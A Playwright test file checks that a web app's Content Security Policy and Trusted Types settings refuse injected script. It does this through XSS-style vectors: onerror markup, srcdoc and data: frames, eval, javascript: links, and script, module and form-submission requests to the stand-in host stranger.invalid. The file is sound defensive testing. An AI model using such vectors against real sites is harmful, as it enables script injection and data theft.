import type { Page } from '@playwright/test';

import { expectComplaint } from './expect-complaint.ts';
import { expect, test } from './journey.ts';

/** What somebody else's text tries in the page, and what the browser says of it. */
interface Attempt {
  readonly name: string;
  /** JavaScript for the page. Whatever runs sets the variable `stranger`, or asks for an address of stranger.invalid. */
  readonly script: string;
  readonly complaint: RegExp;
}

const trustedTypes = /^console: refused: require-trusted-types-for trusted-types-sink$/;
const appended = (element: string, properties: object): string =>
  `document.body.append(Object.assign(document.createElement('${element}'), ${JSON.stringify(properties)}))`;
/** Leaves the call of the test, in which Chromium allows script from text. */
const later = (script: string): string => `setTimeout(() => { ${script} })`;

const texts: readonly Attempt[] = [
  {
    name: 'markup with a handler',
    script: `document.body.innerHTML = '<img src="data:," onerror="stranger = 1">'`,
    complaint: trustedTypes,
  },
  {
    name: 'a document in a frame',
    script: appended('iframe', { srcdoc: '<script>parent.stranger = 1</script>' }),
    complaint: trustedTypes,
  },
  { name: 'the text of a script', script: appended('script', { text: 'stranger = 1' }), complaint: trustedTypes },
  { name: 'eval', script: later(`eval('stranger = 1')`), complaint: trustedTypes },
  { name: 'a function', script: later(`new Function('stranger = 1')()`), complaint: trustedTypes },
  { name: 'a timer', script: `setTimeout('stranger = 1')`, complaint: trustedTypes },
  { name: 'a handler', script: `document.body.setAttribute('onclick', 'stranger = 1')`, complaint: trustedTypes },
];

const addresses: readonly Attempt[] = [
  { name: 'a script', script: appended('script', { src: '//stranger.invalid/' }), complaint: trustedTypes },
  { name: 'a worker from text', script: `new Worker(URL.createObjectURL(new Blob(['1'])))`, complaint: trustedTypes },
  {
    name: 'a service worker that is not the app’s',
    script: `navigator.serviceWorker.register('/main.js')`,
    complaint: trustedTypes,
  },
  {
    name: 'a module',
    script: later(`import('//stranger.invalid/module.js').catch(() => undefined)`),
    complaint: /^console: refused: script-src-elem http:\/\/stranger\.invalid\/module\.js$/,
  },
  {
    name: 'a module from text',
    script: later(`import('data:text/javascript,globalThis.stranger=1').catch(() => undefined)`),
    complaint: /^console: refused: script-src-elem data$/,
  },
  {
    name: 'a link to script',
    script: `Object.assign(document.createElement('a'), { href: 'javascript:stranger=1' }).click()`,
    complaint: /^console: refused: (?:require-trusted-types-for trusted-types-sink|script-src-elem inline)$/,
  },
  {
    name: 'a frame with a document from text',
    script: appended('iframe', { src: 'data:text/html,<script>parent.stranger=1</script>' }),
    complaint: /^console: refused: frame-src $/,
  },
  {
    name: 'a form that is sent elsewhere',
    script: `const form = Object.assign(document.createElement('form'), { action: '//stranger.invalid/' });
      document.body.append(form);
      form.submit();`,
    complaint: /^console: refused: form-action http:\/\/stranger\.invalid\/\?$/,
  },
  {
    name: 'a base elsewhere',
    // It is removed again, because the browser refuses it anew for each address that it reads later.
    script: `const base = Object.assign(document.createElement('base'), { href: '//stranger.invalid/' });
      document.head.prepend(base);
      if (document.baseURI.includes('stranger')) stranger = 1;
      base.remove();`,
    complaint: /^console: refused: base-uri http:\/\/stranger\.invalid\/$/,
  },
  {
    name: 'a plug-in',
    script: appended('object', { data: '//stranger.invalid/' }),
    complaint: trustedTypes,
  },
];

async function openApp(page: Page): Promise<void> {
  await page.goto('/');
  await expect(page.getByLabel('User name')).toBeVisible();
}

for (const { name, script, complaint } of [...texts, ...addresses]) {
  test(`the page refuses ${name} that was brought into it`, async ({ page, complaints }) => {
    await openApp(page);
    const before = page.url();
    // Some of these throw as well.
    await page.evaluate(script).catch(() => undefined);
    await expectComplaint(complaints, complaint);
    expect(await page.evaluate(`'stranger' in window`)).toBe(false);
    expect(page.url()).toBe(before);
  });
}

for (const name of ['airlock#workers', 'angular', 'angular#unsafe-bypass', 'default']) {
  test(`the page lets nobody make a policy ${name}`, async ({ page, complaints }) => {
    await openApp(page);
    await expect(page.evaluate(`void trustedTypes.createPolicy('${name}', {})`)).rejects.toThrow('createPolicy');
    await expectComplaint(complaints, /^console: refused: trusted-types trusted-types-policy$/);
  });
}
